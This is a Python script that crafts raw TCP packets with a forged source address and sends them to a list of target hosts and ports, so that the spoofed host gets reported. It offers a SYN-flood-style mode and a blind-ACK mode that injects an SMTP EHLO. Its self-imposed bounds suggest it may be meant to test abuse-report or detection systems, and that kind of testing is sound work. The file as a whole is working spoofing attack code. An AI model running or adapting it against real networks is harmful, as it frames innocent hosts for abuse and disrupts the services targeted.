#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""An attacker who wants somebody else to be reported: TCP segments with a source address that is not his.

Modes: syn    bare SYNs; the named host's own stack answers the SYN-ACKs with RST.
       guess  SYN, then an ACK with a wrong acknowledgement number and a mail command, as if the handshake had been made.
Bounded by --rounds, and aims at the addresses it is given only.
"""

import argparse
import ipaddress
import random
import socket
import struct
import sys
import time

SYN, PSH, ACK = 0x02, 0x08, 0x10


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def segment(source, target, sport, dport, seq, ack, flags, payload=b""):
    """An IP packet with one TCP segment (RFC 9293, 3.1); the pseudo header of RFC 791 or RFC 8200, 8.1."""
    options = b"\x02\x04\x05\xb4" if flags & SYN else b""
    header = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, (20 + len(options)) << 2, flags, 64240, 0, 0)
    tcp = header + options + payload
    if source.version == 4:
        pseudo = source.packed + target.packed + struct.pack("!BBH", 0, 6, len(tcp))
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0, 64, 6, 0, source.packed, target.packed)
    else:
        pseudo = source.packed + target.packed + struct.pack("!IBBBB", len(tcp), 0, 0, 0, 6)
        ip = struct.pack("!IHBB16s16s", 6 << 28, len(tcp), 6, 64, source.packed, target.packed)
    return ip + tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]


def attack(rng, mode, source, target, dport):
    sport, isn = rng.randint(1024, 65535), rng.getrandbits(32)
    following = (isn + 1) & 0xFFFFFFFF
    yield segment(source, target, sport, dport, isn, 0, SYN)
    if mode == "guess":
        time.sleep(0.002)
        yield segment(source, target, sport, dport, following, rng.getrandbits(32), ACK)
        yield segment(source, target, sport, dport, following, rng.getrandbits(32), ACK | PSH, b"EHLO pc1\r\n")


def main():
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--mode", choices=("syn", "guess"), default="syn")
    parser.add_argument("--source", required=True, type=ipaddress.ip_address)
    parser.add_argument("--ports", required=True, help="25,80,443")
    parser.add_argument("--rounds", type=int, default=1)
    parser.add_argument("--rate", type=float, default=150, help="handshakes per second")
    parser.add_argument("targets", nargs="+", help="ADDRESS or ADDRESS+COUNT, ascending")
    args = parser.parse_args()

    targets = []
    for text in args.targets:
        first, _, count = text.partition("+")
        targets += [ipaddress.ip_address(first) + i for i in range(int(count or 1))]
    pairs = [(target, int(port)) for target in targets for port in args.ports.split(",")]
    rng = random.Random(7)
    family = socket.AF_INET if args.source.version == 4 else socket.AF_INET6
    sent = 0
    with socket.socket(family, socket.SOCK_RAW, socket.IPPROTO_RAW) as sock:
        for _ in range(args.rounds):
            rng.shuffle(pairs)
            for target, port in pairs:
                for packet in attack(rng, args.mode, args.source, target, port):
                    sock.sendto(packet, (str(target), 0))
                    sent += 1
                time.sleep(1 / args.rate)
    print(f"sent={sent}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
